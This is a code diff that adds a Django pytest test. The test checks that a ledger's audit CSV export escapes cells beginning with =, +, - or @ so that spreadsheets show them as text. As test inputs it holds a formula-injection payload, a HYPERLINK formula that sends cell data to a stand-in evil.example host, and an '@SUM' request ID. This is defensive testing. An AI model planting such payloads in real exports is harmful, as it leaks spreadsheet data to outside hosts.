@@ -1,10 +1,15 @@
 """The ledger's own pages (console/ledger_views.py): a hand-edited or hostile query string is
 answered with the page or a 4xx, never a 500, and no page's statements grow with history."""
 
+import csv
+import io
+
 import pytest
 from django.contrib.auth import get_user_model
 
 from ledger.actions import action_request
+from ledger.middleware import current_request_id
+from ledger.models import AuditEvent
 from tests.factories import make_agent
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("jobs_to_test_redis")]
@@ -37,3 +42,20 @@ def test_the_agents_page_counts_each_agents_actions_only_up_to_a_cap(admin, monk
     page = admin.get("/agents/").content.decode()
     assert '<td class="num">2+</td>' in page  # busy's 3
     assert '<td class="num">1</td>' in page  # quiet's
+
+
+def test_the_audit_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(admin):
+    """An agent names its own X-Request-ID and a person types a reason: a cell starting with = + - @
+    is written after an apostrophe (shown as text), so opening the export runs nothing."""
+    token = current_request_id.set("@SUM(1+1)")  # as the middleware sets an agent's own
+    try:
+        AuditEvent.objects.record(actor="system:tests", verb="noted", obj=make_agent("billing")[0],
+                                  reason='=HYPERLINK("https://evil.example/?"&A1)')
+    finally:
+        current_request_id.reset(token)
+    rows = list(csv.DictReader(io.StringIO(b"".join(admin.get("/audit/", {"format": "csv"}).streaming_content)
+                                           .decode())))
+    noted = next(row for row in rows if row["verb"] == "noted")
+    assert noted["reason"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
+    assert noted["request_id"] == "'@SUM(1+1)"
+    assert noted["actor"] == "system:tests"
